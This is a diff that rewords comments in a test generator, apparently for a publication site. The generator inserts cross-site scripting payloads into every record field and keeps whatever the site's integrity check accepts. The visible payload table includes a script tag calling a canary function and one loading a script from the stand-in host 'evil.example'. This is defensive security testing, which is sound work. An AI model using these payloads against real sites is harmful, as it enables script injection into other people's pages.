@@ -1,6 +1,6 @@
 /**
- * A publication of attacks: every field that the schemas of the records have, times every class of payload. A new field is in
- * it as soon as its schema has it. What the check refuses is taken out again; the rest is what a site could be built from.
+ * Generates a publication of attacks: every field in the schemas of the records with every class of payload. A new field is
+ * included as soon as its schema has it. Payloads that the check rejects are removed; a site could be built from the rest.
  */
 
 import type { z } from 'astro/zod'
@@ -16,16 +16,16 @@ import { checkPublication } from '../../src/integrity/check.ts'
 import { kinds } from '../../src/publication/schemas.ts'
 import { readPublication } from '../../src/publication/read.ts'
 
-/** The host that nothing may be asked of. */
+/** The host that no page may request. */
 export const foreignHost = 'evil.example'
 
-/** What payloads call if they run. */
+/** The function that payloads call if they run. */
 export const canary = 'canary'
 
 const run = `${canary}()`
 const far = `https://${foreignHost}`
 
-/** Payloads by a name that can be the name of a file. */
+/** The payloads, by names that can be file names. */
 export const payloads: Readonly<Record<string, string>> = {
   script: `<script>${run}</script>`,
   'script-src': `<SCRIPT/SRC=//${foreignHost}/x.js></SCRIPT>`,
@@ -72,7 +72,7 @@ export const payloads: Readonly<Record<string, string>> = {
   plain: 'P <0.05, a<b, R&D, <i>no</i> &amp; "x"',
 }
 
-/** A field of a record, and what was put into it. */
+/** A field of a record, and the payload in it. */
 interface Attack {
   path: (string | number)[]
   payload: string
@@ -81,16 +81,16 @@ interface Attack {
 interface AttackedRecord {
   file: string
   data: Record<string, unknown>
-  /** What lies below the front matter, where there is one. */
+  /** The text below the front matter, if the record has any. */
   body?: string
   attacks: Attack[]
 }
 
-/** What came of the corpus. */
+/** The result of generating the corpus. */
 export interface Corpus {
-  /** How many fields of how many records hold a payload. */
+  /** The number of fields with a payload, and of their records. */
   kept: number
-  /** Payloads that the check refused, as `collection path: payload`. */
+  /** Payloads that the check rejected, as `collection path: payload`. */
   refused: string[]
   /** Every field that was attacked, as `collection path`. */
   fields: Set<string>
@@ -98,7 +98,7 @@ export interface Corpus {
 
 const orcid = '0000-0002-1825-0097'
 
-/** Texts one of which every field takes; where it can name a record, there is one of that name. */
+/** Texts of which every field accepts one. Those that can name a record name one that exists. */
 const harmless = [
   'sample',
   '2022-04-06',
@@ -108,13 +108,13 @@ const harmless = [
   'owner/name',
 ]
 
-/** Fields whose values only change which rules apply, or that need what a payload cannot be. */
+/** Fields whose values only change which rules apply, or that cannot contain a payload. */
 const untouched = /^(?:ignore|rules|draft|replyTo|csl|language)$/
 
 /**
  * Writes the corpus into a folder, below `content/`.
  *
- * @returns what the check took of it; the content that is left has no errors
+ * @returns what the check accepted; the content that is left has no errors
  */
 export function writeCorpus(folder: string): Corpus {
   const records = Object.keys(payloads).flatMap((name) => attackedRecords(name))
@@ -147,7 +147,7 @@ function checkAll(folder: string, records: readonly AttackedRecord[]): Issue[] {
   return issues.filter(({ severity }) => severity === 'error')
 }
 
-/** Takes back the payload nearest before each error; where an error is at none, the payloads of its record. */
+/** Removes the payload closest before each error or, if there is none, all payloads of the record. */
 function takeOut(
   errors: readonly Issue[],
   records: AttackedRecord[],
@@ -184,7 +184,7 @@ function takeOut(
   }
 }
 
-/** A text without a payload of its own, which shows the records that have one. */
+/** A text without a payload, which shows the records that have one. */
 function bodyOf(collection: string, name: string): string {
   return collection === 'articles'
     ? `Something was studied [@${name}].\n\n<Verdict claim="${name}" />\n\n<Evidence claim="${name}" />\n\n## More\n\n<EvidenceMap claim="${name}">\n\nWhat was found.\n\n</EvidenceMap>`
@@ -195,10 +195,10 @@ function lineOfBody({ data }: AttackedRecord): number {
   return stringify(data, { lineWidth: 0, defaultStringType: 'QUOTE_DOUBLE' }).split('\n').length + 1
 }
 
-/** Takes a payload out: the field goes if it can, or gets its harmless value back. */
+/** Removes a payload: deletes the field if it is optional, or restores its harmless value. */
 function takeBack(data: object, path: readonly (string | number)[]): void {
   const { values, optional } = grounds.get(data) ?? { values: new Map(), optional: new Set() }
-  // The only element of a list goes with the list.
+  // Deletes a list together with its only element.
   const field = typeof path.at(-1) === 'number' ? path.slice(0, -1) : path
   const isOptional = optional.has(field.join('.'))
   const parent = valueAt(data, (isOptional ? field : path).slice(0, -1)) as Record<string, unknown>
@@ -207,7 +207,7 @@ function takeBack(data: object, path: readonly (string | number)[]): void {
   else parent[last] = values.get(path.join('.'))
 }
 
-/** What a record holds without payloads: its harmless values, and the fields that it can do without. */
+/** The contents of a record without payloads: its harmless values and its optional fields. */
 interface Ground {
   values: Map<string, unknown>
   optional: Set<string>
@@ -215,7 +215,7 @@ interface Ground {
 
 const grounds = new Map<object, Ground>()
 
-/** The collections of one file a record, and where a record of each goes. */
+/** The collections with one file per record, and the file of a record in each. */
 const folders = {
   claims: (name: string) => `claims/${name}.yaml`,
   references: (name: string) => `references/${name}.yaml`,
@@ -230,7 +230,7 @@ const folders = {
 
 type Attacked = keyof typeof folders
 
-/** A record of each collection with one payload in every field that takes it. */
+/** Returns a record of each collection with one payload in every field that accepts it. */
 function attackedRecords(name: string): AttackedRecord[] {
   const payload = payloads[name] ?? ''
   return (Object.keys(folders) as Attacked[]).map((collection) => {
@@ -242,7 +242,7 @@ function attackedRecords(name: string): AttackedRecord[] {
   })
 }
 
-/** The publication itself has one record: all payloads are in each of its fields. */
+/** The settings of the publication are one record, so each field contains all payloads. */
 function attackedSite(): AttackedRecord {
   const all = Object.values(payloads).join(' ')
   const site = attack('site.yaml', kinds.site.schema, all, {})
@@ -251,7 +251,7 @@ function attackedSite(): AttackedRecord {
   return site
 }
 
-/** What the others name. */
+/** The records that the others refer to. */
 function soundRecords(): AttackedRecord[] {
   return (Object.keys(folders) as Attacked[])
     .filter((collection) => collection !== 'searches')
@@ -275,7 +275,7 @@ function attack(
   const ground: Ground = { values: new Map(), optional: new Set() }
   const { values } = ground
   const data = fill(schema, payload, [], attacks, ground) as Record<string, unknown>
-  // Names that two records may not share.
+  // Names that two records cannot share.
   for (const field of ['title', 'name', 'statement', 'label', 'description'])
     if (values.get(field) === 'sample') values.set(field, `What ${file} is about`)
   if (payload === undefined)
@@ -298,14 +298,14 @@ function valueAt(data: unknown, path: readonly (string | number)[]): unknown {
   )
 }
 
-/** Fields that depend on each other, which no schema says. */
+/** Fields that depend on each other in ways that no schema describes. */
 function adjust(file: string, data: Record<string, unknown>): void {
   delete data['aliases']
   if (file.startsWith('articles/')) {
     const name = /([^/]+)\.mdx$/.exec(file)?.[1] ?? ''
-    // One article shows all that holds the same payload.
+    // One article shows all records with the same payload.
     for (const field of ['claims', 'authors', 'topics']) data[field] = [name]
-    // Nobody reviews what they wrote, and no verdict changes to itself.
+    // People cannot review what they wrote, and a verdict cannot change to itself.
     const other = name === 'sample' ? 'attack-plain' : 'sample'
     data['reviewers'] = [other]
     for (const revision of data['revisions'] as Record<string, unknown>[])
@@ -321,7 +321,7 @@ function adjust(file: string, data: Record<string, unknown>): void {
     for (const study of (data['evidence'] ?? []) as Record<string, unknown>[])
       study['reference'] = name
   }
-  // Two people do not have one iD.
+  // Two people cannot have the same iD.
   if (file.startsWith('people/') && file !== 'people/sample.yaml' && data['orcid'] === orcid)
     Reflect.deleteProperty(data, 'orcid')
   if (file.startsWith('ratings/')) {
@@ -350,7 +350,7 @@ interface Definition {
   values?: readonly unknown[]
 }
 
-/** A value that a schema takes, all optional fields there, the payload in every text that takes it. */
+/** Returns a value that a schema accepts, with all optional fields, and the payload in every text that accepts it. */
 function fill(
   schema: z.ZodType,
   payload: string | undefined,
@@ -361,7 +361,7 @@ function fill(
   const definition = schema.def as unknown as Definition
   const inner = definition.innerType ?? definition.in
   if (inner) {
-    // A default may be of another type than what may be written.
+    // A default can have a type that authors cannot write.
     return fill(inner, payload, path, attacks, ground)
   }
   switch (definition.type) {
